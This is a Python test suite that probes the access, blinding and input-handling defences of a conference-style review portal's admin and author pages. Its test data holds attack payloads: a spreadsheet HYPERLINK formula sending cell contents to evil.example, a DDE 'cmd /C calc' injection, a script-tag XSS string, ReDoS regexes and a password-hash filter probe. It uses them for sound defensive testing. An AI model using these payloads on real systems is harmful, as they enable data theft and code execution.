"""What a hostile or careless reviewer, manager or author tried with the review, one sentence each: kept shut."""

from __future__ import annotations

import csv
import json
import re
from io import StringIO
from itertools import product

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cases import drafting, submitting
from cases.drafting import NotAllowed
from cases.models import Colleague
from opsi_portal.roles import MANAGERS, REVIEWERS
from outbox import delivery
from papers import sheets
from people import links
from people.models import User
from reviews import asking, assigning, blinding, counting, deciding, taking_in
from reviews.asking import LETTERS_A_DAY
from reviews.deciding import Verdict
from reviews.digesting import send_digests
from reviews.exports import TABLES
from reviews.models import Assignment, Criterion, Decision, Dossier, Question, Review, Reviewer
from reviews.seeing import hidden_from, may_see_scores
from tests.makers import (
    DAY,
    HOUR,
    author_of,
    key_for,
    letters_posted,
    make_boss,
    make_call,
    make_draft,
    make_upload,
)
from tests.reviews import who
from tests.reviews.giving import screened
from tests.reviews.makers import REVIEWING, give, make_dossier, make_reviewer, make_round, may, score
from tests.reviews.test_digesting import EVENING_BEFORE, MORNING, letter_to
from tests.reviews.test_exports import body_of, decided, take
from tests.reviews.test_office_reading import FILLED, PILE, entered, page, staff
from tests.roof.test_office_doors import NAMES, address_of, everything

pytestmark = pytest.mark.django_db

FIVE_FOURS, FIVE_NOUGHTS = (4, 4, 4, 4, 4), (0, 0, 0, 0, 0)


def at_dossier(name: str, dossier: Dossier) -> str:
    return reverse(f"admin:reviews_dossier_{name}", args=[dossier.pk])


def at_round(name: str) -> str:
    return reverse(f"admin:reviews_round_{name}", args=[make_round().pk])


def scored(*points: tuple[int, ...]) -> Dossier:
    """A case with finished reviews, counted."""
    dossier = make_dossier()
    for each in points:
        score(give(dossier, make_reviewer("Jan P.")), *each)
    counting.count(make_round(), at=REVIEWING)
    return dossier


def told_by(answer) -> tuple[int, str]:
    """A page without what is drawn by lot each time, or only repeats its address."""
    lots = r'name="csrfmiddlewaretoken" value="\w+"|data-server-now="[^"]+"'
    text = re.sub(lots, "", answer.content.decode())
    return answer.status_code, text.replace(answer.request["PATH_INFO"].removeprefix("/en"), "")


@pytest.fixture
def reading_manager() -> Reviewer:
    """A manager who reads cases too."""
    return make_reviewer("Ida O.", user=staff("ida@oecd.example", MANAGERS))


# -- Others' scores before one's own -----------------------------------------------------------------------------------


def test_the_place_of_a_case_that_one_has_still_to_read_tells_nothing(reading_manager):
    """The row hid its numbers and stood between two that showed theirs."""
    best, middle, worst = scored(FIVE_FOURS), scored((2, 2, 2, 2, 2)), scored(FIVE_NOUGHTS)
    give(middle, reading_manager)
    desk = entered(reading_manager.user)

    for by in ("plain", "normalised"):
        answer = desk.get(at_round("ranking"), {"by": by})
        assert [(row["place"], row["pk"]) for row in answer.context["rows"]] == [(1, best.pk), (2, worst.pk)]
        assert middle.case.reference not in answer.content.decode()
        assert "Cases that you have still to read are left out" in answer.content.decode()


def test_that_reviewers_do_not_agree_is_not_told_by_a_list_nor_by_a_count(reading_manager):
    apart, mine = scored(FIVE_FOURS, FIVE_NOUGHTS), scored(FIVE_FOURS, FIVE_NOUGHTS)
    give(mine, reading_manager)
    desk = entered(reading_manager.user)

    listed = [row["pk"] for row in desk.get(at_round("discuss")).context["rows"]]
    narrowed = [row["pk"] for row in desk.get("/admin/reviews/dossier/?mark=discuss").context["rows"]]
    counted = {each["what"]: each["n"] for each in desk.get("/admin/").context["waiting"]}

    assert listed == narrowed == [apart.pk]
    assert counted["disagreements"] == 1


def test_a_case_that_its_author_withdraws_for_a_day_shows_no_scores_to_who_will_go_on_reading_it(
    reading_manager,
):
    dossier = scored(FIVE_FOURS)
    give(dossier, reading_manager)
    case = dossier.case
    submitting.withdraw(case, by=author_of(case), at=dossier.submission.arrived_at + HOUR)
    taking_in.take_in(at=REVIEWING)

    assert Dossier.objects.get().step == Dossier.Step.OUT
    assert not may_see_scores(reading_manager.user, dossier)
    assert hidden_from(reading_manager.user) == {dossier.pk}
    shown = entered(reading_manager.user).get(at_dossier("change", dossier))
    assert (shown.context["sees_scores"], shown.context["reviews"]) == (False, None)


def test_no_digest_on_a_page_can_be_tried_until_it_tells_the_scores(reading_manager, settings):
    """3,125 ways to give points to five criteria: a bare digest over them is found in a second."""
    dossier = scored(FIVE_FOURS, (3, 3, 4, 4, 4))
    give(dossier, reading_manager)
    verdict = Verdict("hold", "We wait.")

    def shown() -> str:
        return deciding.plan([dossier.pk], verdict, by=reading_manager.user, at=REVIEWING).fingerprint

    before = shown()
    settings.SECRET_KEY = "another key, as long as those that nobody guesses"

    assert shown() != before


def test_what_somebody_is_still_writing_leaves_the_office_in_no_file(client):
    manager = may(
        make_reviewer("Ida").user, "reviews.view_dossier", "reviews.export_review", "reviews.see_scores"
    )
    begun = give(make_dossier(), make_reviewer("Jan P."))
    score(begun, *FIVE_FOURS, comments="Only a thought.", words_for_author="Perhaps.", finished_at=None)

    (row,) = json.loads(body_of(take(client, manager, "reviews", "json")))

    assert row["reviewer"] == "Jan P."
    assert (row["points_novelty"], row["score"], row["advice"]) == (None, None, "")
    assert (row["comments"], row["words_for_author"]) == ("", "")


def test_nobody_takes_a_case_from_themselves_looks_at_the_scores_and_gives_it_to_themselves_again(
    reading_manager,
):
    dossier, lea = screened(), reading_manager.user
    mine = give(dossier, reading_manager)
    score(give(dossier, make_reviewer("Jan P.")), *FIVE_FOURS)
    assigning.take_back(mine, reason="Wait.", by=lea, at=REVIEWING)
    assert may_see_scores(lea, dossier)

    with pytest.raises(assigning.NotPossible, match="A colleague can give it to you"):
        assigning.give(dossier, reading_manager, by=lea, at=REVIEWING, reason="A slip.")

    assert assigning.give(dossier, reading_manager, by=make_boss(), at=REVIEWING, reason="A slip.")


def test_a_reviewer_who_asks_for_others_by_number_learns_not_even_whether_they_exist():
    lea = make_reviewer("Lea M.", user=staff("lea@oecd.example", REVIEWERS))
    jan, dossier = make_reviewer("Jan P."), make_dossier()
    theirs, mine = give(dossier, jan), give(make_dossier(), lea)
    desk = entered(lea.user)

    def told(pk: int, more: str = "change/") -> tuple[int, str]:
        return told_by(desk.get(f"{PILE}{pk}/{more}"))

    assert told(theirs.pk) == told(theirs.pk + 999)
    assert told(theirs.pk, "history/") == told(theirs.pk + 999, "history/")
    assert told(theirs.pk, "file/abcdef/") == told(theirs.pk + 999, "file/abcdef/")
    assert told(mine.pk)[0] == 200
    for do in ("save", "finish", "clear", "conflict"):
        assert desk.post(page(theirs), {"do": do, "version": 0, "reason": "x", **FILLED}).status_code == 404
    assert Assignment.objects.get(pk=theirs.pk).ended_at is None
    assert not Review.objects.exists()
    # The case admin answers the same for what is there and for what is not.
    for name in ("change", "pdf", "give", "decide", "screening", "ask", "history"):
        asked = [at_dossier(name, dossier), at_dossier(name, dossier).replace(f"/{dossier.pk}/", "/999/")]
        there, nowhere = [told_by(desk.get(address)) for address in asked]
        assert there == nowhere and there[0] == 403, name


def test_a_file_opens_only_from_the_case_that_was_handed_in_with_it():
    lea = make_reviewer("Lea M.", user=staff("lea@oecd.example", REVIEWERS))
    mine, other = give(make_dossier(), lea, cleared_at=REVIEWING), make_draft(complete=True)
    file = drafting.attach(author_of(other), make_upload("secret.txt"), at=other.begun_at)
    theirs = give(make_dossier(other), make_reviewer("Jan P."), cleared_at=REVIEWING)
    desk = entered(lea.user)

    assert desk.get(page(mine, "file", file.code)).status_code == 404
    assert desk.get(page(theirs, "file", file.code)).status_code == 404
    file_page = reverse("admin:reviews_dossier_file", args=[theirs.dossier_id, file.code])
    assert desk.get(file_page).status_code == 403


# -- A blind round -----------------------------------------------------------------------------------------------------

ORGANISATION = "River Basin Authority North"


@pytest.fixture
def blind() -> Dossier:
    make_round(blind=True)
    title = f"How the {ORGANISATION} warns of floods"
    return screened(make_dossier(make_draft(complete=True, answers={"title": title})))


def test_what_the_author_was_asked_names_nobody_to_a_blind_reviewer(blind):
    lea = make_reviewer("Lea M.", user=staff("lea@oecd.example", REVIEWERS))
    mine = give(blind, lea, cleared_at=REVIEWING)
    asking.ask(blind, words=f"Dear Marta Okello, who pays at {ORGANISATION}?", by=make_boss(), at=REVIEWING)

    shown = entered(lea.user).get(page(mine)).content.decode()

    assert "Dear [hidden], who pays at [hidden]?" in shown
    assert ORGANISATION not in shown and "Okello" not in shown


def test_the_digest_of_a_blind_round_covers_titles_as_the_pile_does(blind):
    lea = make_reviewer("Lea M.")
    give(blind, lea, at=EVENING_BEFORE)

    send_digests(MORNING)

    letter = letter_to(lea)
    words = delivery.written(letter)
    for text in (words.text, words.html, words.subject, json.dumps(letter.context)):
        assert ORGANISATION not in text
    assert "How the [hidden] warns of floods" in words.text


@pytest.mark.parametrize("piece", ["a.", "a-", "a+", "a@", "www.", "-", ".", "/"])
def test_no_text_keeps_a_blind_reviewer_waiting_however_it_is_made(piece):
    """10,000 signs of «a.a.a.a …» in an answer took seven seconds of every page that showed it. Twenty times as
    much would take most of an hour: that this ends at all is the proof."""
    text = "." + piece * (200_000 // len(piece))

    assert blinding.cover_of({"organisation": "Water Board"}, [])(text)


# -- Words that authors read -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "named",
    [
        "As Léa  Marchetti has said.",
        "As Lea\u00a0Marchetti has said.",
        "As LEA\nMARCHETTI has said.",
        "As Lea\u200b Mar\u00adchetti has said.",
        "As Ｌｅａ Marchetti has said.",
        "Ms Marchetti was not convinced.",
        "Write to lea@oecd.example.",
    ],
)
def test_no_spelling_of_a_reviewer_reaches_an_author(named):
    dossier, boss = make_dossier(), make_boss()
    give(dossier, make_reviewer("Lea Marchetti", email="lea@oecd.example"))

    (entry,) = deciding.plan([dossier.pk], Verdict("hold", named), by=boss, at=REVIEWING).entries
    with pytest.raises(NotAllowed, match="names a reviewer of this case"):
        asking.ask(dossier, words=named, by=boss, at=REVIEWING)

    assert "name a reviewer of this case" in entry.refusals[0]
    assert letters_posted("question") == []


@pytest.mark.parametrize("words", ["The market is in Lea.", "A marchetti is a boat.", "Remarchettied."])
def test_words_that_only_look_like_a_reviewer_pass(words):
    dossier, boss = make_dossier(), make_boss()
    give(dossier, make_reviewer("Lea Marchetti", email="lea@oecd.example"))

    assert asking.ask(dossier, words=words, by=boss, at=REVIEWING)
    assert not deciding.plan([dossier.pk], Verdict("hold", words), by=boss, at=REVIEWING).refused


def test_a_script_that_asks_and_asks_does_not_fill_the_mailbox_of_an_author():
    dossier, boss = make_dossier(), make_boss()
    questions = [
        asking.ask(dossier, words=f"Why {n}?", by=boss, at=REVIEWING) for n in range(LETTERS_A_DAY - 1)
    ]
    asking.move(questions[0], due_at=REVIEWING + 9 * DAY, by=boss, at=REVIEWING)

    with pytest.raises(NotAllowed, match="today"):
        asking.ask(dossier, words="Once more?", by=boss, at=REVIEWING)
    with pytest.raises(NotAllowed, match="today"):
        asking.move(questions[0], due_at=REVIEWING + 10 * DAY, by=boss, at=REVIEWING)

    assert len(letters_posted("question")) == LETTERS_A_DAY
    assert Question.objects.count() == LETTERS_A_DAY - 1
    assert asking.ask(make_dossier(), words="And you?", by=boss, at=REVIEWING)
    assert asking.ask(dossier, words="Once more?", by=boss, at=REVIEWING + DAY)


def test_a_scanner_that_looks_at_every_link_of_a_letter_answers_opens_and_confirms_nothing(client):
    dossier = make_dossier()
    asking.ask(dossier, words="Who pays?", by=make_boss(), at=timezone.now())
    [letter] = letters_posted("question")
    address = links.address_of(letter.context["link"]).removeprefix("https://portal.example")
    before = everything()

    for _look in range(2):
        for answer in (client.get(address), client.head(address), client.get(address + "?act=answer")):
            assert (answer.status_code, answer.cookies.keys() & {"keys"}) == (200, set())

    assert everything() == before


def test_the_author_of_another_case_cannot_tell_a_question_that_is_there_from_one_that_is_not():
    mine, theirs = make_dossier(), make_dossier()
    question = asking.ask(theirs, words="Who pays?", by=make_boss(), at=REVIEWING)
    browser = key_for(Client(), author_of(mine.case))

    def told(code: str, pk: int) -> tuple[int, str]:
        return told_by(browser.get(reverse("reviews:question", args=[code, pk])))

    def sent(code: str, pk: int) -> int:
        address = reverse("reviews:question", args=[code, pk])
        return browser.post(address, {"answer": "We do.", "based_on": ""}).status_code

    there, nowhere = question.pk, question.pk + 999
    assert told(mine.case.code, there) == told(mine.case.code, nowhere)
    assert (
        told(theirs.case.code, there) == told(theirs.case.code, nowhere) == told("nothing-like-this", there)
    )
    assert (sent(mine.case.code, there), sent(theirs.case.code, there)) == (404, 403)
    assert Question.objects.get().answered_at is None


def test_a_link_to_a_question_ends_with_the_part_of_whoever_got_it(client):
    dossier = make_dossier()
    author = author_of(dossier.case)
    asking.ask(dossier, words="Who pays?", by=make_boss(), at=timezone.now())
    [letter] = letters_posted("question")
    address = links.address_of(letter.context["link"]).removeprefix("https://portal.example")
    client.post(address)
    question = reverse("reviews:question", args=[dossier.case.code, Question.objects.get().pk])
    assert client.get(question).status_code == 200

    Colleague.objects.filter(pk=author.pk).update(generation=author.generation + 1)

    assert client.get(question).status_code == 403
    assert client.get(reverse("reviews:decision", args=[dossier.case.code])).status_code == 403
    assert (client.get(address).status_code, client.post(address).status_code) == (404, 404)


# -- Bad input in the office -------------------------------------------------------------------------------------------


def test_a_release_of_a_quarter_of_a_million_numbers_is_a_release_of_none(client):
    """More than a database takes in one question: it was an error."""
    client.force_login(make_boss())
    dossier = make_dossier()
    decided(dossier, make_boss())
    numbers = ",".join(map(str, range(10**9, 10**9 + 260_000)))

    answer = client.post(at_round("release"), {"act": "release", "decisions": numbers, "outcome": "publish"})

    assert answer.status_code == 302
    assert letters_posted("decision") == []


def test_a_manager_of_one_round_releases_nothing_of_another(client):
    client.force_login(make_boss())
    other = make_dossier(make_draft(make_call(year=2026), complete=True))
    decision = decided(other, make_boss())

    client.post(at_round("release"), {"act": "release", "decisions": str(decision.pk), "outcome": "publish"})

    assert Decision.objects.get().release is None


@pytest.mark.parametrize(
    "by_hand",
    ["[" * 100_000, '{"1":' * 50_000, '{"1": [NaN, 1e999]}', '{"1": [' + "9" * 5000 + "]}", "\ufeff{}"],
)
def test_a_plan_that_carries_nonsense_is_shown_as_it_was_proposed(client, by_hand):
    client.force_login(make_boss())
    screened()

    for do in ("look", "accept"):
        answer = client.post(at_round("plan"), {"do": do, "by_hand": by_hand, "fingerprint": "x"})
        assert (answer.status_code, answer.context["changed"]) == (200, 0)
    assert not Assignment.objects.exists()


#: Signs that neither XML nor a spreadsheet can hold, and words that would like to be more than words.
NASTY = "a\x01b\x0b\x1b\u202ec\ufffe]]>{{ 1 }}<script>alert(1)</script>&amp;"


def test_signs_that_nobody_sees_break_no_plot_paper_file_or_letter(client):
    """A vertical tab in the title of a criterion, as it is pasted, was an error on the page with the figures."""
    boss, dossier = make_boss(), scored((4, 4, 4, 4, 4), (1, 1, 1, 1, 1))
    client.force_login(boss)
    Criterion.objects.filter(key="novelty").update(title={"en": NASTY}, anchor_3={"en": NASTY})
    Review.objects.update(comments=NASTY, words_for_author=NASTY)
    assert asking.ask(dossier, words=NASTY, by=boss, at=REVIEWING)
    verdict = Verdict("hold", NASTY)
    seen = deciding.plan([dossier.pk], verdict, by=boss, at=REVIEWING).fingerprint
    decisions = deciding.decide([dossier.pk], verdict, seen=seen, by=boss, at=REVIEWING)
    deciding.release(dossier.round, [each.pk for each in decisions], by=boss, at=REVIEWING)

    pages = [at_round(name) for name in ("figures", "ranking", "discuss", "rubric", "history", "release")]
    pages += [at_dossier(name, dossier) for name in ("change", "pdf", "ask", "decide", "give", "screening")]
    answers = [client.get(address) for address in pages]
    answers += [take(client, boss, table, kind) for table, kind in product(TABLES, ("csv", "xlsx", "json"))]
    answers.append(
        key_for(Client(), author_of(dossier.case)).get(reverse("reviews:decision", args=[dossier.case.code]))
    )

    assert {answer.status_code for answer in answers} == {200}
    for answer in answers:
        if answer["Content-Type"].startswith("text/html"):
            assert "<script>alert" not in answer.content.decode(), answer.request["PATH_INFO"]
        else:
            assert body_of(answer)
    for letter in letters_posted("question") + letters_posted("decision"):
        mail = delivery.compose(letter)
        assert mail.message().as_bytes()
        assert "<script>alert" not in mail.alternatives[0][0]


@pytest.mark.parametrize(
    "asked",
    [
        "dossier/?decision__reasons__startswith=a",
        "dossier/?submission__content__contains=a",
        "dossier/?case__colleagues__address__email__startswith=a",
        "dossier/?assignments__review__scores__novelty=4",
        "dossier/?plain_mean__gte=3",
        "dossier/?discuss=1",
        "dossier/?step__in=decided,out",
        "assignment/?reviewer=1",
        "assignment/?review__comments__regex=(a%2B)%2B$",
        "assignment/?dossier__submission__organisation__startswith=R",
        "reviewer/?user__password__startswith=argon2",
        "reviewer/?conflicts__reason__contains=a",
        "round/?dossiers__plain_mean__gte=3",
        "round/?figures__mean__gte=1",
    ],
)
def test_a_list_of_the_review_answers_only_the_questions_that_it_shows(client, asked):
    client.force_login(make_boss())
    give(make_dossier(), make_reviewer())

    assert client.get(f"/admin/reviews/{asked}").status_code == 400
    if asked.startswith("dossier/"):
        asked_by = asked.partition("?")[2]
        for door in ("export/reviews/csv/", "shortlist.pdf"):
            assert client.post(f"/admin/reviews/dossier/{door}?{asked_by}").status_code == 400


LONG = "a" * 1_000_000


@pytest.mark.parametrize(
    ("door", "sent"),
    [
        ("dossier_decide", {"act": "look", "outcome": "hold", "reasons": LONG}),
        ("dossier_decide", {"act": "look", "outcome": "NaN", "reasons": "x\0\u202e"}),
        ("dossier_decide", {"act": "take:" + "9" * 5000, "reasons": "x"}),
        ("dossier_decide", {"act": "confirm", "outcome": "hold", "reasons": "x", "seen": "\0"}),
        ("dossier_decide_many", {"act": "look", "outcome": "hold", "reasons": "x", "cases": LONG}),
        ("dossier_decide_many", {"act": "change", "cases": "\0", "outcome": "\0"}),
        ("dossier_decide_many", {"case": ["9" * 18, "-1", "²", "1e9"]}),
        ("dossier_ask", {"act": "ask", "question": LONG, "due_at": "9999-12-31T23:59"}),
        ("dossier_ask", {"act": "ask", "question": "x\0", "due_at": "0001-01-01T00:00"}),
        ("dossier_give", {"do": "give", "reviewer": "NaN", "due": "9999-99-99", "reason": LONG}),
        ("dossier_give", {"do": "give", "reviewer": "\0", "due": "2026-03-29\0"}),
        ("dossier_screening", {"novel": "NaN", "novel_note": LONG, "version": "-1", "read": "1e9"}),
        ("dossier_looked", {"seen": "9999-12-31T23:59:59.999999-23:59"}),
        ("dossier_looked", {"seen": "\0"}),
        ("round_rubric", {"line": ["9" * 18, "²", "-1"], "new-weight": "NaN", "new-title_0": LONG}),
        (
            "round_change",
            {"readers_per_case": "NaN", "discuss_from": "1E-999999999", "promised_at": "9999-12-32"},
        ),
        ("round_change", {"readers_per_case": "9" * 30, "days_to_read": "-1", "discuss_from": "Infinity"}),
        (
            "round_plan",
            {"do": "accept", "was-1": "1.²." + "9" * 4000, "reader-1": ["\0", "1"], "p": "9" * 15},
        ),
        (
            "reviewer_change",
            {"cap": "NaN", "languages": "\0", "countries": ["FR\0"], "domains": "a@\u202e.\0"},
        ),
        ("reviewer_take_back", {"do": "take-back", "reason": "\0"}),
    ],
    ids=lambda value: str(value)[:60],
)
def test_what_no_form_sends_gets_a_clear_answer_and_changes_nothing(client, door, sent):
    client.force_login(make_boss())
    dossier, reviewer = make_dossier(), make_reviewer()
    asked = door.partition("_")[0]
    key = {"dossier": dossier.pk, "round": dossier.round_id, "reviewer": reviewer.pk}[asked]
    args = [] if door == "dossier_decide_many" else [key]
    before = everything()

    answer = client.post(reverse(f"admin:reviews_{door}", args=args), sent)

    assert answer.status_code in (200, 302, 422)
    assert b"\0" not in answer.content
    assert everything() == before


def test_a_body_in_another_alphabet_is_refused_before_anybody_reads_it(client):
    client.force_login(make_boss())
    dossier = make_dossier()

    for name in ("decide", "ask", "give", "screening"):
        answer = client.generic(
            "POST",
            at_dossier(name, dossier),
            "act=look&outcome=hold".encode("utf-16"),
            content_type="application/x-www-form-urlencoded; charset=utf-16",
        )
        assert answer.status_code == 400


# -- Doors -------------------------------------------------------------------------------------------------------------


@pytest.fixture
def doors() -> dict[str, str]:
    """The address of every page and button of the review, about one case that the boss has to read."""
    case = make_draft(complete=True)
    rows = {"code": "nothing", **who.rows(case)}
    rows["reviews_assignment"] = give(
        rows["reviews_dossier"], make_reviewer(user=make_boss("boss@oecd.example"))
    )
    return {name: address_of(name, rows) for name in NAMES if name.startswith("reviews_")}


def boss(**how) -> Client:
    client = Client(**how)
    client.force_login(User.objects.get(email="boss@oecd.example"))
    return client


def test_looking_changes_nothing_whatever_is_asked(doors):
    desk, before = boss(), everything()

    for address in doors.values():
        for asked in ("", "?act=confirm&do=accept&act=release&outcome=hold&reasons=x&reason=x&version=0"):
            assert desk.get(address + asked).status_code < 500
            assert desk.head(address + asked).status_code < 500

    assert everything() == before


def test_no_other_site_presses_a_button_of_the_review(doors):
    desk, before = boss(enforce_csrf_checks=True), everything()

    for name, address in doors.items():
        answer = desk.post(address, {"act": "confirm", "do": "finish", "version": 0})
        assert answer.status_code == 403, name
        answer = desk.post(address, "{}", content_type="text/plain")
        assert answer.status_code == 403, name

    assert everything() == before


def test_no_cache_keeps_anything_of_the_review_be_it_an_error_or_a_file(doors):
    desk = boss()

    answers = [desk.get(address) for address in doors.values()]
    answers += [
        desk.post(address) for name, address in doors.items() if "export" in name or "shortlist" in name
    ]

    for answer in answers:
        assert "no-store" in answer["Cache-Control"], answer.request["PATH_INFO"]
        assert "ETag" not in answer and "Last-Modified" not in answer, answer.request["PATH_INFO"]


# -- Files for spreadsheets --------------------------------------------------------------------------------------------


def cells_of(text: str, separator: str) -> list[str]:
    """A file as a spreadsheet parts it that knows only this separator: quotes count where a cell begins with them."""
    lines = b"".join(sheets.csv_lines(iter([["XB-2027-0147", text, "end"]]))).decode("utf-8-sig")
    return [cell for line in csv.reader(StringIO(lines), delimiter=separator) for cell in line]


FORMULAS = ('=HYPERLINK("https://evil.example?"&A1)', "@SUM(A1)", "+1+cmd|' /C calc'!A0", "-1", "＝1")
BEFORE = ("", "  ", "Fine;", "Fine; ", 'Fine;"', "Fine\n", "Fine\r\n\n", "Fine\t", 'Fine,"\n"', 'Fine\n"; \t')


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_formula_hides_behind_a_separator_of_another_country(separator):
    """A comma-separated file opens in a French or German spreadsheet as one that is separated by semicolons."""
    for before, formula in product(BEFORE, FORMULAS):
        cells = cells_of(sheets.harmless(before + formula), separator)
        assert not [cell for cell in cells if cell.strip(' "\r\n').startswith(tuple("=+-@＝"))]


@pytest.mark.parametrize(
    "text", ["a – b; c", "x=y, a+b, me@here.example", "One.\n\nTwo; three – four.", 'He said: "no".']
)
def test_plain_words_leave_as_they_are(text):
    assert cells_of(sheets.harmless(text), ",") == ["XB-2027-0147", text, "end"]
